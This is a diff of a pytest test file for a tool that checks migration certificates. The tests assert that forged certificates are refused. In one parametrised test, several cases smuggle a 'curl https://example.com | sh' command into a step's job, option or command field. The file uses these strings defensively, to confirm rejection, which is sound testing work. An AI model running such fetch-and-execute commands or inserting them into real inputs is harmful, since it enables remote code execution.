@@ -96,7 +96,7 @@ def test_a_missing_object_that_is_said_to_be_deleted_at_the_source_is_noticed(ch
 
     # AND all checks pass
     for one in forged["checks"]:
-        one.update(result="passed", keys=[], next="", next_zh="", command="")
+        one.update(result="passed", keys=[], next="", next_zh="", step=None)
     forged |= {"verdict": "GO", "document": forged["document"].replace("-no-go", "-go")}
 
     # THEN it is not a GO
@@ -138,16 +138,19 @@ def test_a_check_without_its_gate_is_noticed(check):
     assert is_refused(check(sealed(forged), "--lang", "en"))
 
 
-def test_a_command_that_does_something_else_is_noticed(check):
+@pytest.mark.parametrize(
+    "step",
+    [
+        {"job": "open", "options": {}},
+        {"job": "remove", "options": {}},
+        {"job": "compare; curl https://example.com | sh", "options": {}},
+        {"job": "compare", "options": {"again; curl https://example.com": True}},
+        {"job": "compare", "options": {}, "command": "curl https://example.com | sh"},
+    ],
+)
+def test_a_step_that_opens_the_project_or_is_none_of_its_commands_is_noticed(check, step):
     forged = answer("certificate-no-go")
-    forged["checks"][3]["command"] += "; curl https://example.com | sh"
-    assert is_refused(check(sealed(forged), "--lang", "en"))
-
-
-@pytest.mark.parametrize("command", ["s certify invoke -e '{\"open\": true}'", "s remove invoke -e '{}'"])
-def test_a_command_that_opens_the_project_or_is_none_of_its_functions_is_noticed(check, command):
-    forged = answer("certificate-no-go")
-    forged["checks"][3]["command"] = command
+    forged["checks"][3]["step"] = step
     assert is_refused(check(sealed(forged), "--lang", "en"))
 
 
@@ -204,7 +207,8 @@ FREE = {
     "checks.*.next": "the same",
     "checks.*.next_zh": "the same",
     "checks.*.keys": "the first of the keys that certify speaks of",
-    "checks.*.command": "another call of this project, or none",
+    "checks.*.step": "another command of this project, or none",
+    "checks.*.waits": "whether asking again helps: decides nothing",
     "made_by": "a stranger compares it with a release",
     "source_bucket": "listings tell whether it is this bucket",
     "destination_bucket": "the same",
@@ -213,6 +217,12 @@ FREE = {
     "passes.*.pass": "names in the log bucket",
     "passes.*.objects_per_minute": "decides nothing",
     "passes.*.started": "only the order of times can be seen",
+    "passes.*.twin": "a listing with ETags tells, if both are the same",
+    "passes.standstill.began": "the same, and that it is not too early",
+    "closed": "the mark in the log bucket tells; what it says is held against the standstill pass",
+    "run": "the same",
+    "open_projects": "the same",
+    "oms": "OMS's console tells; what is said is held against the check",
     "passes.*.ended": "the same",
     "source.state_digest": "a listing with ETags and times tells",
     "last_written": "a listing with times tells; what it says is held against the freeze",
@@ -227,7 +237,7 @@ FREE = {
     "shown": "decides nothing",
 }
 # Results that no number in the document tells: only the verdict has to follow from them.
-SEEN_BY_CERTIFY = ("STOOD_STILL", "SUMS", "BACKLOG", "COPY_FAILED", "TASK", "CLOCK")
+SEEN_BY_CERTIFY = ("SUMS", "NOTHING_WAITS", "TASK", "CLOCK")
 
 
 def places(value: object, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], object]]:
